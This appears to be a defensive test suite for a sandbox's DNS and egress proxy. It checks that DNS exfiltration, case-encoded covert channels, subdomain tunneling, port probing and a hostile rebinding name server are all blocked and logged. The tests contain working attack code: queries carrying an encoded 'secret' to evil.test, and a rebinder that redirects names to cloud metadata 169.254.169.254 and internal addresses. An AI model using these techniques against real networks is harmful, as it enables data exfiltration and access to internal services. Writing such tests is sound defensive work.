# SPDX-License-Identifier: Apache-2.0
"""Attacks from inside by way of names: that two readers could read in two
ways, that are too many, and servers that lie."""
import json
import os
import signal
import subprocess

from attack_lab import attack, inside
from harness import check, silent
from lab import DNS, GOOD


def upstream(case):
    return len(case.lab.packets(f"dst host {DNS} and port 53"))


# -- DNS --------------------------------------------------------------------


def test_dns_oddities(case):
    """Messages that carry something beside an allowed name: nothing goes up,
    and each is answered or recorded."""
    before = upstream(case)
    run = attack(case, r"""
secret = name(b"c2VjcmV0.evil.test"); ok = name(b"allowed.test")
rr = secret + struct.pack(">2HIH", 16, 1, 0, 7) + b"\6secret"
opt = lambda d, size=4096, ttl=0: b"\0" + struct.pack(">2HIH", 41, size, ttl, len(d)) + d
m = [query(ok, counts=(2, 0, 0, 0), tail=secret + b"\0\1\0\1"), query(ok, counts=(0, 0, 0, 0)),
     query(ok, counts=(1, 1, 0, 0), tail=rr), query(ok, counts=(1, 0, 1, 0), tail=rr),
     query(ok, counts=(1, 0, 0, 1), tail=rr), query(ok, counts=(1, 0, 0, 2), tail=opt(b"") + rr),
     query(ok, tail=b"leftover"), query(ok, counts=(1, 0, 0, 1), tail=opt(b"\xff\xfe\0\x0asecret")),
     query(ok, counts=(1, 0, 0, 1), tail=opt(b"", ttl=0x10000)), query(ok, qclass=3), query(ok, qclass=255),
     query(ok, 252), query(ok, 251), query(ok, 41), query(ok, 0), query(ok, 65535),
     query(b"\xc0\x0c"), query(b"\7allowed\xc0\x0c"), query(b"\x0callowed.test\0"), query(b"\7allowed\4test\4evil\xc0\x0c"),
     query(b"\x3f" + b"a" * 63 + b"\4test\0"), query(b"\x40" + b"a" * 64 + b"\0"), query((b"\x3f" + b"a" * 63) * 5 + b"\0"),
     query(name(b"allowed.test\0")), query(name(b"al\0owed.test")), query(name(b"allowed .test")), query(name(b"a\xc3\xbf.test")),
     query(ok, flags=0x8100), query(ok, flags=0x2900), query(ok, flags=0x1100), query(ok, flags=0x0900),
     query(secret, flags=0), query(name(b"ALLOWED.evil.TEST")), query(b"\0", 2), query(b"\0", 1), query(name(b"test"), 6),
     b"", b"\0", ok * 40, query(ok)[:13], query(secret, 16), query(secret, 28), query(secret, 65), query(secret, 255)]
for d in m:
    udp(d, 0.15)
    if len(d) >= 12: tcp(struct.pack(">H", len(d)) + d, 1)
tcp(struct.pack(">H", 0)); tcp(b"\xff\xff" + b"x" * 65535); tcp(b"\0"); tcp(struct.pack(">H", 5) + b"abcde")
tcp(struct.pack(">H", len(m[-1])) + m[-1][:9])
tcp(b"".join(struct.pack(">H", len(d)) + d for d in m if len(d) >= 12) * 20, 3)
print("sent")
""", args=("--deny", "nothing.test"))
    check("sent" in run.out, run)
    asked = case.lab.packets(f"dst host {DNS} and port 53")[before:]
    # Only plain questions for allowed.test (EDNS options are not copied).
    check(all("allowed.test." in p for p in asked), asked)
    check("secret" not in "".join(asked) and "c2Vj" not in "".join(asked))
    check(run.denied("malformed"), run.records)


def test_dns_case_is_not_a_channel(case):
    before = upstream(case)
    run = attack(case, r"""
for i in range(64):
    n = bytes(c & ~32 if 97 <= c < 123 and i >> (k % 6) & 1 else c for k, c in enumerate(b"allowed.test"))
    udp(query(name(n)), 0.5)
""")
    check(run.status == 0, run)
    asked = case.lab.packets(f"dst host {DNS} and port 53")[before:]
    check(len(asked) <= 4 and all(" allowed.test. " in p for p in asked), asked)


def test_dns_of_others(case):
    """Whichever name server is asked, on port 53 our own one answers, elsewhere
    nobody; whatever the source port, and also at a leased address."""
    before = upstream(case)
    run = attack(case, f"servers = {[DNS, '8.8.8.8', '203.0.113.1', '203.0.113.2', '198.18.0.1', '224.0.0.251']!r}" + r"""
q = query(name(b"c2VjcmV0.evil.test"))
for a in servers:
    for p in 53, 853, 5353, 443:
        got = say((a, p), struct.pack(">H", len(q)) + q, 0, timeout=0.5)
        if len(got) > 30 and (p != 53 or got[5] & 15 != 3): print("ANSWER", a, p, got)
        for source in 0, 53, 3128:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.05)
            try:
                if source: s.bind(("", source))
                s.sendto(q, (a, p)); got, who = s.recvfrom(512)
                # By its port: what was asked at 53 before may be answered late.
                if who[1] != 53 or got[3] & 15 != 3: print("ANSWER", a, p, who, got)
            except OSError: pass
print("tried")
""")
    check("tried" in run.out and "ANSWER" not in run.out, run)
    check(upstream(case) == before, "asked upstream")
    for server in DNS, "8.8.8.8":
        check([r for r in run.records if r.get("dst_endpoint", {}).get("ip")
               == server], f"{server} is not in the log")
    silent(case)


def test_dns_tcp_connections(case):
    """Many that are idle or trickle do not keep a real question out."""
    run = attack(case, r"""
held = []
for i in range(300):
    try: s = dial((GW, 53), 1); s.sendall(b"\0"); held.append(s)
    except OSError: pass
q = query(name(b"allowed.test"))
began = time.time()
print("answered", len(tcp(struct.pack(">H", len(q)) + q, 20)) > 30, time.time() - began)
""")
    check(run.out.startswith("answered True "), run)
    check(float(run.out.split()[2]) < 1, run)


def test_dns_tcp_garbage_is_recorded(case):
    """What is no question is in the log, by TCP as by UDP."""
    run = attack(case, r"""
udp(b"\0" * 14, 0.2)
tcp(struct.pack(">H", 5) + b"abcde", 20); tcp(b"\xff\xff" + b"exfil" * 100, 20)
""")
    said = json.dumps(run.denied("malformed"))
    check('"udp"' in said and '"tcp"' in said, said)


def test_names_count_in_all_doors(case):
    """What is below a wildcard is limited, whichever door it comes by."""
    before = upstream(case)
    run = attack(case, r"""
def door(i):
    n = b"d%d.tunnel.test" % i
    if i % 4 == 0: udp(query(name(n)), 0.5)
    if i % 4 == 1: say((GW, PORT), b"CONNECT " + n + b":443 HTTP/1.1\r\n\r\n", 0, True, 1)
    if i % 4 == 2: say((GW, PORT), b"GET http://" + n + b"/ HTTP/1.1\r\nHost: " + n + b"\r\n\r\n", 0, True, 1)
    if i % 4 == 3: say((GW, PORT), b"\5\1\0\5\1\0\3" + bytes([len(n)]) + n + b"\1\xbb", 0, True, 1)
for k in range(5):
    ts = [threading.Thread(target=door, args=(i,)) for i in range(k * 40, k * 40 + 40)]
    [t.start() for t in ts]; [t.join() for t in ts]
""", allow=("*.tunnel.test",))
    asked = case.lab.packets(f"dst host {DNS} and port 53")[before:]
    names = {p.split("? ")[1].split()[0] for p in asked if "? " in p}
    check(run.denied("limit_names") and len(names) <= 64, (len(names), run))


def test_wildcard_edges(case):
    run = attack(case, r"""
for n in (b"wild.test", b"evilwild.test", b"xwww.wild.test.evil.test", b"www-wild.test", b"www.wild.test.", b"WWW.wild.TEST", b"a.b.deny.wild.test", b"deny.wild.test"):
    print(n.decode(), say((GW, PORT), b"GET http://" + n + b"/host HTTP/1.1\r\nHost: " + n + b"\r\nConnection: close\r\n\r\n", 0, timeout=20)[:12].decode())
""", allow=("*.wild.test",), args=("--deny", "deny.wild.test", "--deny", "*.deny.wild.test"))
    want = {"www.wild.test.": "200", "WWW.wild.TEST": "200"}
    for line in run.out.splitlines():
        name, _, status_line = line.partition(" ")
        check(status_line.endswith(want.get(name, "403")), run)
    check(len(run.out.splitlines()) == 8, run)


REBINDER = r"""
import socket, struct, threading, time
A = lambda ip: struct.pack(">2HIH", 1, 1, 0, 4) + socket.inet_aton(ip)
seen = {}
def name(t): return b"".join(bytes([len(l)]) + l for l in t.split(b".")) + b"\0"
def answer(q):
    at, labels = 12, []
    while q[at]: labels.append(q[at + 1:at + 1 + q[at]]); at += 1 + q[at]
    end = at + 5; kind = struct.unpack(">H", q[at + 1:at + 3])[0]
    w = labels[0]; now = time.monotonic()
    early = now - seen.setdefault((w, kind), now) < 4  # perhaps the same question, asked again
    rr = []; own = b"\xc0\x0c"; ident = q[:2]; question = q[12:end]
    if kind == 1:
        if w == b"rebind": rr = [own + A("%(good)s" if early else "169.254.169.254")]
        if w == b"rebindlan": rr = [own + A("%(good)s" if early else "10.0.0.7")]
        if w == b"rebindself": rr = [own + A("%(good)s" if early else "203.0.113.2")]
        if w == b"owner": rr = [name(b"allowed.test") + A("%(evil)s")]
        if w == b"alias": rr = [own + struct.pack(">2HIH", 5, 1, 0, 11) + name(b"evil.test"), name(b"evil.test") + A("169.254.169.254")]
        if w == b"chain": rr = [name(b"c%%d.test" %% i if i else b"chain.test") + struct.pack(">2HIH", 5, 1, 0, len(name(b"c%%d.test" %% (i + 1)))) + name(b"c%%d.test" %% (i + 1)) for i in range(40)]
        if w == b"circle": rr = [own + struct.pack(">2HIH", 5, 1, 0, 2) + own]
        if w == b"pointer": rr = [b"\xc0\x20" + A("%(evil)s")] * 3
        if w == b"many": rr = [own + A("%(evil)s")] * 3000
        if w == b"badid": ident = bytes([q[0] ^ 1, q[1]]); rr = [own + A("%(evil)s")]
        if w == b"badname": question = name(b"other.test") + q[at + 1:end]; rr = [own + A("%(evil)s")]
        if w == b"short": rr = [own + struct.pack(">2HIH", 1, 1, 0, 3) + b"abc"]
        if w == b"zero": rr = [own + A("0.0.0.0")]
        if w == b"silent": return b""
    if kind == 28 and w == b"mapped6":
        rr = [own + struct.pack(">2HIH", 28, 1, 0, 16) + socket.inet_pton(socket.AF_INET6, a)
              for a in ("::ffff:10.0.0.7", "64:ff9b::a00:7", "2002:a00:7::", "fe80::1", "::1", "fd00:ec2::254", "::10.0.0.7", "2001:0:a00:7::")]
    return ident + struct.pack(">5H", 0x8180, 1, len(rr), 0, 0) + question + b"".join(rr)
def one(c):
    try:
        d = c.recv(4096); a = answer(d[2:]); c.sendall(struct.pack(">H", min(len(a), 65535)) + a[:65535])
    except OSError: pass
    c.close()
def tcp():
    t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    t.bind(("93.184.216.54", 53)); t.listen()
    while True: one(t.accept()[0])
threading.Thread(target=tcp, daemon=True).start()
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("93.184.216.54", 53))
while True:
    q, peer = u.recvfrom(4096)
    try:
        a = answer(q)
        if len(a) > 1400: a = a[:2] + struct.pack(">5H", 0x8380, 1, 0, 0, 0) + q[12:]; a = a[:12 + len(q) - 12]
        if a: u.sendto(a, peer)
    except Exception as e: print(e, flush=True)
"""


def test_hostile_name_server(case):
    """Rebinding between the questions, and answers to other questions."""
    lab = case.lab
    try:
        lab.net("ip", "addr", "add", "93.184.216.54/32", "dev", "lo")
    except subprocess.CalledProcessError:
        pass
    server = inside(case, REBINDER % {"good": GOOD, "evil": "93.184.216.67"})
    lab.wait(lambda: lab.listens("93.184.216.54", 53), "rebinder")
    words = ["owner", "alias", "chain", "circle", "pointer", "many", "badid",
             "badname", "short", "zero", "mapped6", "silent"]
    policy = lab.write("rebind.yaml", "version: 1\ndns: { upstream: [93.184.216.54] }\nallow: [%s]\n" %
                       ", ".join(w + ".test" for w in words + ["rebind", "rebindlan", "rebindself"]))
    run = attack(case, f"words = {words!r}" + r"""
re = "rebind", "rebindlan", "rebindself"
first = {w: udp(query(name(w.encode() + b".test")), 20)[-4:] for w in re}
def one(w):
    got = say((GW, PORT), f"GET http://{w}.test/ HTTP/1.1\r\nHost: {w}.test\r\nConnection: close\r\n\r\n".encode(), 0, timeout=14)
    print("REACHED" if b"200 OK" in got else "ok", w, got[:30])
ts = [threading.Thread(target=one, args=(w,)) for w in words]; [t.start() for t in ts]
time.sleep(6)  # what it was told is no longer remembered
for w in re:
    print(w, say((GW, PORT), f"GET http://{w}.test/ HTTP/1.1\r\nHost: {w}.test\r\n\r\n".encode(), 0, True, 20)[:12])
    print(w, say((socket.inet_ntoa(first[w]), 80), f"GET / HTTP/1.1\r\nHost: {w}.test\r\nConnection: close\r\n\r\n".encode(), 0, timeout=20)[:12])
[t.join() for t in ts]
""", allow=(), args=("--policy", policy))
    os.kill(server.pid, signal.SIGKILL)
    check(run.status == 0 and "REACHED" not in run.out, run)
    check(run.out.count("b'HTTP/1.1 502'") >= 6, run)
    check(run.denied("forbidden_address"), run)
    left = lab.packets("dst net 10.0.0.0/8 or dst host 169.254.169.254 or "
                       "dst host 93.184.216.67 or (dst host 203.0.113.2 and "
                       "tcp[13] = 2)")
    check(not left, left)


# -- leases and packets -----------------------------------------------------


def test_leases_are_of_one_port_and_name(case):
    """Neighbours of a leased address, its other ports, other ways to write it;
    a connection by the one name does not carry the other."""
    run = attack(case, r"""
a, b = socket.gethostbyname("cdn.test"), socket.gethostbyname("allowed.test")
print("same" if a == b else "differ")
ip = struct.unpack(">I", socket.inet_aton(a))[0]
def up(addr, port):
    try: dial((addr, port), 1).close(); return True
    except OSError: return False
near = [socket.inet_ntoa(struct.pack(">I", ip + d)) for d in range(-3, 8)]
print("open", [n for n in near if up(n, 443) and n not in (a, b)], [p for p in (1, 22, 81, 444, 3128, 8080, 65535) if up(a, p)])
h = hello("cdn.test")
print("cross", say((b, 443), h, timeout=20)[:1], say((b, 80), b"GET /host HTTP/1.1\r\nHost: cdn.test\r\n\r\n", 0, timeout=20)[:12])
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
try: s.bind((a, 5555)); print("BOUND")
except OSError: print("not bound")
""", allow=("cdn.test", "allowed.test"), proxy=False)
    check("differ" in run.out and "open [] []" in run.out, run)
    check("cross b'\\x15' b'HTTP/1.1 403'" in run.out and "not bound" in run.out, run)
